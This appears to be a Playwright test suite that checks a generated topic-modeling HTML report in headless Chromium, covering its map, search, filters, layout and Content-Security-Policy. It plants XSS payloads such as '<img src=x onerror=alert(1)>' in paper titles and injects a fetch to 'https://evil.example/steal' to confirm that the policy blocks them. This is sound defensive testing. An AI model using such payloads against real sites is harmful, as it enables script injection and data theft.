"""index.html in a real browser (headless Chromium).

No errors, images decode, the map, search and filters work, hostile titles stay text (no alert fires), all
under the page's Content-Security-Policy: nothing it does is refused, and what it does not do (a script,
style or image slipped in, a request anywhere) is.
"""

from __future__ import annotations

import os
import re
import shutil
import warnings
from pathlib import Path

import pandas as pd
import pytest

import topics
from topics.report.html import LABEL_HALO, text_width

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
REPO = Path(__file__).resolve().parents[1]
ARTIFACTS = Path(__file__).resolve().parent / "_artifacts"
HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
# records what the page's Content-Security-Policy refuses (the browser's own evaluation is not subject to it)
WATCH_CSP = """window.__csp = [];
document.addEventListener("securitypolicyviolation",
  e => window.__csp.push(e.effectiveDirective + " " + (e.blockedURI || "")));"""
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--no-first-run"]


def _browser_or_skip():
    reason = None
    if not Path(CHROMIUM).exists() and not shutil.which("chromium"):
        reason = f"{CHROMIUM} not found (apt-get install chromium)"
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        reason = "playwright is not installed (pip install playwright)"
    if reason:
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    return sync_playwright


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> tuple[Path, pd.DataFrame]:
    """A report of the sample papers with two hostile titles and a label column."""
    corpus = topics.datasets.load_sample_papers()
    corpus.loc[3, "title"] = HOSTILE[0]
    corpus.loc[7, "title"] = HOSTILE[1]
    corpus["label"] = ["even" if i % 2 == 0 else "odd" for i in range(len(corpus))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = topics.TopicModel(progress=False).fit(corpus)
    folder = tmp_path_factory.mktemp("browser") / "report"
    index = topics.report(model, folder, quiet=True, name="hostile <b>corpus</b>")
    return index, pd.read_csv(folder / "documents.csv")


@pytest.fixture(scope="module")
def browser():
    sync_playwright = _browser_or_skip()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def page(browser, report):
    index, _ = report
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.problems, page.dialogs = [], []
    page.on("console", lambda m: page.problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: page.problems.append(str(e)))
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: page.problems.append(f"network: {r.url}")
            if not r.url.startswith(("file:", "data:")) else None)
    page.add_init_script(WATCH_CSP)
    page.goto(index.as_uri())
    page.wait_for_load_state("load")
    yield page
    page.close()


def test_loads_without_errors_and_images_decode(page):
    assert page.problems == []
    assert page.evaluate("window.__csp") == []  # the policy refused nothing of the page's own
    sizes = page.eval_on_selector_all("img", "els => els.map(e => [e.complete, e.naturalWidth])")
    assert len(sizes) >= 5
    assert all(complete and width > 0 for complete, width in sizes), sizes
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "report.png"))
    page.screenshot(path=str(ARTIFACTS / "report-full.png"), full_page=True)


def test_one_mark_per_paper(page, report):
    _, documents = report
    assert page.locator("#map circle").count() == len(documents)
    assert page.locator("#map circle.dim").count() == 0


def test_hover_shows_title_and_topic(page, report):
    _, documents = report
    mark = page.locator("#map circle").last
    index = int(mark.get_attribute("data-i"))
    mark.hover(force=True)
    tip = page.locator("#tip")
    assert tip.is_visible()
    assert documents.loc[index, "title"] in tip.inner_text()
    assert f"Topic {documents.loc[index, 'topic']}" in tip.inner_text()


def test_theme_and_topic_filters(page, report):
    _, documents = report
    page.click("#reset")
    theme = int(documents["theme"].max())
    page.click(f'[data-filter-theme="{theme}"]')
    shown = page.locator("#map circle:not(.dim)").count()
    assert shown == int((documents["theme"] == theme).sum())
    topic = int(documents["topic"].iloc[0])
    page.click(f'[data-filter-topic="{topic}"]')
    assert page.locator("#map circle:not(.dim)").count() == int((documents["topic"] == topic).sum())
    assert page.get_attribute(f'[data-filter-topic="{topic}"]', "aria-pressed") == "true"
    page.click(f'[data-filter-topic="{topic}"]')  # clicking again clears the filter
    assert page.locator("#map circle.dim").count() == 0


def test_search_finds_a_paper(page, report):
    _, documents = report
    page.click("#reset")
    title = documents.loc[10, "title"]
    page.fill("#search", title[:25])
    hits = page.locator("#map circle.hit")
    assert hits.count() >= 1
    expected = documents.index[documents["title"].str.lower().str.contains(title[:25].lower(), regex=False)]
    assert hits.count() == len(expected)
    assert page.locator("#results li a").first.inner_text() in set(documents.loc[expected, "title"])
    page.locator("#results li a").first.click()
    found = page.locator("li.found")
    assert found.count() == 1 and found.is_visible()
    page.fill("#search", "no paper is called this")
    assert page.locator("#map circle.hit").count() == 0
    assert "No paper" in page.locator("#results").inner_text()
    page.click("#reset")


def test_hostile_titles_stay_text(page, report):
    index, _ = report
    for title in HOSTILE:
        page.fill("#search", title)
        assert page.locator("#results li a").first.inner_text() == title
        assert page.get_by_text(title, exact=True).count() >= 1
        mark = page.locator("#map circle.hit").first
        mark.hover(force=True)
        assert title in page.locator("#tip").inner_text()
    page.click("#reset")
    assert page.locator('img[src="x"]').count() == 0
    assert page.locator("script").count() == 2  # the data block and the page's script, nothing injected
    assert page.title() == "Topics in hostile <b>corpus</b>"
    assert page.dialogs == []
    assert page.problems == []
    html = index.read_text()
    assert "<script>alert" not in html and "<img src=x" not in html
    markdown = (index.parent / "report.md").read_text()
    assert re.search(r"(?<!\\)<(script|img|/script)", markdown) is None  # only backslash-escaped
    assert r"\<script\>alert\(1\)\</script\>" in markdown


def test_readable_on_a_phone(browser, report):
    index, _ = report
    page = browser.new_page(viewport={"width": 390, "height": 844}, device_scale_factor=2)
    page.goto(index.as_uri())
    root = "document.documentElement"
    overflow = page.evaluate(f"{root}.scrollWidth - {root}.clientWidth")
    assert overflow <= 1, f"the page scrolls sideways by {overflow}px on a phone"
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "report-phone.png"))
    page.close()


def test_topic_labels_on_the_map_are_readable_and_apart(page, report):
    """One label per topic in the SVG, drawn above the points, inside the map, no two overlapping (the
    boxes the browser measures, not the estimates the layout used)."""
    _, documents = report
    page.click("#reset")
    labels = page.locator("#map text.label")
    assert labels.count() == documents.loc[documents["topic"] >= 0, "topic"].nunique()
    boxes = page.eval_on_selector_all("#map text.label", "els => els.map(e => {const b = e.getBBox(); "
                                      "return [b.x, b.y, b.x + b.width, b.y + b.height];})")
    width, height = page.evaluate("[document.getElementById('map').viewBox.baseVal.width, "
                                  "document.getElementById('map').viewBox.baseVal.height]")
    for x0, y0, x1, y1 in boxes:
        assert x0 >= 0 and y0 >= 0 and x1 <= width and y1 <= height, (x0, y0, x1, y1)
    for i, (a0, b0, a1, b1) in enumerate(boxes):
        for c0, d0, c1, d1 in boxes[i + 1 :]:
            overlap_x, overlap_y = min(a1, c1) - max(a0, c0), min(b1, d1) - max(b0, d0)
            assert overlap_x <= 0 or overlap_y <= 0, ((a0, b0, a1, b1), (c0, d0, c1, d1))
    # the layout sized each label's box before the browser drew it: the drawn text must fit that box
    drawn = page.eval_on_selector_all("#map text.label", "els => els.map(e => [e.getBBox().width, "
                                      "+e.getAttribute('font-size'), Array.from(e.querySelectorAll('tspan'), "
                                      "t => t.textContent)])")
    for measured, font_size, lines in drawn:
        estimate = max(text_width(line, font_size) for line in lines)
        assert measured <= estimate + LABEL_HALO, (lines, measured, estimate)
    size = page.evaluate("(() => { const svg = document.getElementById('map'); const t = svg.querySelector("
                         "'text.label'); return parseFloat(getComputedStyle(t).fontSize) * "
                         "svg.getBoundingClientRect().width / svg.viewBox.baseVal.width; })()")
    assert size >= 11, f"labels are drawn at {size:.1f} px"
    # above the points: the label group is the svg's last child; filtering dims other topics' labels
    assert page.evaluate("document.getElementById('map').lastElementChild.id") == "map-labels"
    topic = int(documents["topic"].iloc[0])
    page.click(f'[data-filter-topic="{topic}"]')
    assert page.locator(f'#map text.label[data-topic="{topic}"]:not(.dim)').count() == 1
    assert page.locator("#map text.label.dim").count() == labels.count() - 1
    page.click("#reset")
    assert page.locator("#map text.label.dim").count() == 0


def _closed_paper(page, other_than: int | None = None) -> int:
    """Close every <details> and return a paper inside one (the fourth listed, or the fifth if the fourth
    is `other_than`: the address may already name that one, and naming it again changes nothing)."""
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = false; })")
    listed = page.locator("details li[data-paper]")
    paper = int(listed.nth(3).get_attribute("data-paper"))
    return int(listed.nth(4).get_attribute("data-paper")) if paper == other_than else paper


def _opened_and_shown(page, paper: int) -> bool:
    page.wait_for_function(f"document.getElementById('paper-{paper}').closest('details').open")
    item = page.locator(f"#paper-{paper}")
    box = item.bounding_box()
    return (item.is_visible() and box is not None and 0 <= box["y"] <= page.viewport_size["height"]
            and "found" in (item.get_attribute("class") or ""))


def test_links_to_a_paper_open_its_details(browser, page, report):
    index, _ = report
    # a representative paper links to its entry in the topic's (closed) list of papers
    paper = _closed_paper(page)
    link = page.locator(f'.representative a[href="#paper-{paper}"]')
    if link.count() == 0:  # not a representative one: take the first representative link
        link = page.locator(".representative a").first
        paper = int(link.get_attribute("href").split("-")[1])
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = false; })")
    link.click()
    assert _opened_and_shown(page, paper)
    # the same link again after closing the list: no hashchange this time, it must still open
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = false; })")
    page.evaluate("window.scrollTo(0, 0)")
    link.click()
    assert _opened_and_shown(page, paper)
    # any change of the address's #fragment (typed, the back button, a link from elsewhere)
    other = _closed_paper(page, other_than=paper)
    page.evaluate(f"location.hash = '#paper-{other}'")
    assert _opened_and_shown(page, other)
    assert page.locator("li.found").count() == 1
    # a shared link opened afresh
    fresh = browser.new_page()
    fresh.goto(f"{index.as_uri()}#paper-{paper}")
    fresh.wait_for_load_state("load")
    assert _opened_and_shown(fresh, paper)
    fresh.close()
    # a dot on the map: its paper's list opens and the address names the paper
    other = _closed_paper(page, other_than=other)
    page.evaluate("window.scrollTo(0, 0)")
    page.locator(f'#map circle[data-i="{other}"]').click(force=True)
    assert _opened_and_shown(page, other)
    assert page.evaluate("location.hash") == f"#paper-{other}"
    assert page.problems == []


def test_tooltip_and_search_name_the_papers_own_topic(page, report):
    """The tooltip and the search results give each paper its own topic's label (documents.csv), not the
    label of the topic that comes at that place in the legend."""
    _, documents = report
    page.click("#reset")
    for topic, rows in documents[documents["topic"] >= 0].groupby("topic"):
        index = int(rows.index[0])
        expected = f"Topic {topic}: {rows['topic_label'].iloc[0]}"
        page.locator(f'#map circle[data-i="{index}"]').hover(force=True)
        assert expected in page.locator("#tip").inner_text(), (index, expected)
    title = documents.loc[10, "title"]
    page.fill("#search", title)
    assert f"Topic {documents.loc[10, 'topic']}: {documents.loc[10, 'topic_label']}" in page.locator(
        "#results li").first.inner_text()
    page.click("#reset")


WORDS_ON_TWO_LINES = """cells => cells.flatMap(cell => {
  const broken = [];
  const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    for (const match of node.textContent.matchAll(/[^\\s\\-]+/g)) {
      const range = document.createRange();
      range.setStart(node, match.index);
      range.setEnd(node, match.index + match[0].length);
      const lines = new Set(Array.from(range.getClientRects(), r => Math.round(r.top)));
      if (lines.size > 1) broken.push(match[0]);
    }
  }
  return broken;
})"""


@pytest.mark.parametrize("width", [1400, 1000, 390])
def test_theme_overview_breaks_no_word(browser, report, width):
    """The theme overview's theme, papers and share columns are wide enough that no word is split."""
    index, _ = report
    folder = index.parent.parent / "themed"
    if not folder.exists():
        model = topics.TopicModel.load(index.parent / "model")
        topics.report(model, folder, quiet=True, themes=REPO / "examples" / "themes.toml")
    page = browser.new_page(viewport={"width": width, "height": 900})
    page.goto((folder / "index.html").as_uri())
    cells = ".named-themes th, .named-themes td:nth-child(2), .named-themes td:nth-child(3)"
    assert page.locator(".named-themes tbody tr").count() >= 4
    assert page.eval_on_selector_all(cells, WORDS_ON_TWO_LINES) == []
    root = "document.documentElement"
    assert page.evaluate(f"{root}.scrollWidth - {root}.clientWidth") <= 1
    ARTIFACTS.mkdir(exist_ok=True)
    page.locator("#named-themes").screenshot(path=str(ARTIFACTS / f"theme-overview-{width}.png"))
    page.close()


def test_the_policy_lets_nothing_in_or_out(browser, report):
    """What a future escaping slip could put in the page does not run, style or load: a script or style
    block that is not the page's own, an image from the network, a request from the page's script."""
    index, _ = report
    page = browser.new_page()
    requests, blocked = [], []
    page.on("request", lambda r: requests.append(r.url))
    page.on("requestfailed", lambda r: blocked.append((r.url, r.failure)))
    page.add_init_script(WATCH_CSP)
    page.goto(index.as_uri())
    page.wait_for_load_state("load")
    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    assert policy.startswith("default-src 'none'; ") and "unsafe-inline" not in policy
    assert page.evaluate("window.__csp") == []
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.__ran = true;";
      document.body.appendChild(script);
      const style = document.createElement("style");
      style.textContent = "body { background: rgb(255, 0, 0); }";
      document.head.appendChild(style);
      document.body.insertAdjacentHTML("beforeend",
        '<img src="https://evil.example/pixel.png"><p id="styled" style="color: rgb(255, 0, 0)">x</p>');
      fetch("https://evil.example/steal").catch(() => {});
    }""")
    page.wait_for_function("window.__csp.length >= 5")
    refused = page.evaluate("window.__csp")
    assert page.evaluate("window.__ran === undefined")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(255, 0, 0)"
    for directive in ("script-src-elem", "style-src-elem", "style-src-attr", "img-src", "connect-src"):
        assert any(r.startswith(directive) for r in refused), (directive, refused)
    outside = [url for url in requests if not url.startswith(("file:", "data:"))]
    assert outside and sorted(outside) == sorted(url for url, why in blocked if why == "csp")  # none sent
    page.close()
